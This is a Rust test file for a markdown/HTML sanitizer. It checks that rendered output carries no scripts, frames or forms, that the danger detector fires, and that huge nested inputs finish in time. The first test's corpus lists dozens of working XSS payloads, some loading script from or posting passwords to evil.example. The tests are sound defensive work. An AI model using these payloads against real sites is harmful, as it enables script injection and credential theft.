//! What must come to nothing, and what must come to an end.

use std::time::{Duration, Instant};

use gatewright_markup::html;

use crate::dangers::dangers;

#[test]
fn nothing_becomes_a_script_a_style_a_form_or_a_frame() {
    let corpus = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](java\nscript:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](\u{1}javascript:alert(1))",
        "[a](vbscript:x)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href=\"data:text/html,<script>1</script>\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "[a](//evil.example)",
        "[a](/\\evil.example)",
        "<javascript:alert(1)>",
        "![a](javascript:alert(1))",
        "![a](data:image/svg+xml;base64,PHN2Zz4=)",
        "![a](//evil.example/p.png)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<style>body{display:none}</style><p style=\"position:fixed\" class=\"dialog\">x</p>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=\"//evil.example\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<div id=\"main\" onclick=\"x()\" data-x=\"1\">x</div>",
        "<h1 id=\"sign-in\">x</h1>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<a href=\"https://x.example\" target=_blank ping=\"https://evil.example\">x</a>",
        "<img alt=\"<img src=x onerror=alert(1)>\" src=\"https://a.example/x\">",
        "<video src=x onerror=alert(1)></video><audio src=x>",
        "<api-playground><script type=\"application/json\">{}</script></api-playground>",
        "`<script>alert(1)</script>`",
        "```\"><script>alert(1)</script>\nx\n```",
        "# <img src=x onerror=alert(1)>",
        "| <script>x</script> |\n|---|\n| <img src=x onerror=y> |",
        "[ref]: javascript:alert(1)\n[ref]",
        "<https://a.example/\"onmouseover=alert(1)>",
        "<xss onfocus=alert(1) tabindex=1 contenteditable>x</xss>",
        "<a href=\"http://[::1]\u{0}javascript:1\">x</a>",
    ];
    for text in corpus {
        let shown = html(text);
        assert_eq!(dangers(&shown), Vec::<String>::new(), "{text:?} became {shown:?}");
    }
}

#[test]
fn what_looks_for_danger_finds_it() {
    for bad in [
        "<script>x</script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:1\">",
        "<a href=\"//evil\">",
        "<img src=\"https://a.example\">",
        "<h3 id=\"main\">",
        "<p style=\"x\">",
        "<p class=\"dialog\">",
    ] {
        assert!(!dangers(bad).is_empty(), "{bad}");
    }
}

#[test]
fn nothing_is_so_deep_or_long_that_it_does_not_end() {
    let long = 200_000;
    let corpus = [
        ">".repeat(long),
        "> ".repeat(long),
        "- ".repeat(long),
        "[".repeat(long),
        "![".repeat(long / 2),
        "[a](".repeat(long / 4),
        "*".repeat(long),
        "*a ".repeat(long / 3),
        "_a*b".repeat(long / 4),
        "`".repeat(long),
        "<b>".repeat(long / 3),
        "<table>".repeat(long / 7),
        "<div><p>".repeat(long / 8),
        "<a href=x>".repeat(long / 10),
        "&#x41;".repeat(long / 6),
        "|a".repeat(long / 2),
        format!("|a|\n|-|\n{}", "|b|\n".repeat(long / 4)),
        format!("{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000)) + &"\n|b".repeat(20_000),
        "a\n".repeat(long / 2),
        "[a]: b\n".repeat(long / 7),
        "1. ".repeat(long / 3),
        format!("{}a", "    ".repeat(long / 4)),
        "<!--".repeat(long / 4),
        "<![CDATA[".repeat(long / 9),
        "www.".repeat(long / 4),
        "a@".repeat(long / 2),
        "http://a/".repeat(long / 9),
        "~~a".repeat(long / 3),
        "# a\n".repeat(long / 4),
        "\0".repeat(long),
        "x".repeat(10 * 1024 * 1024),
    ];
    for text in corpus {
        let begun = Instant::now();
        let shown = html(&text);
        let took = begun.elapsed();
        let name: String = text.chars().take(20).collect();
        assert!(took < Duration::from_secs(10), "{name:?} took {took:?}");
        assert!(dangers(&shown).is_empty(), "{name:?}");
    }
}
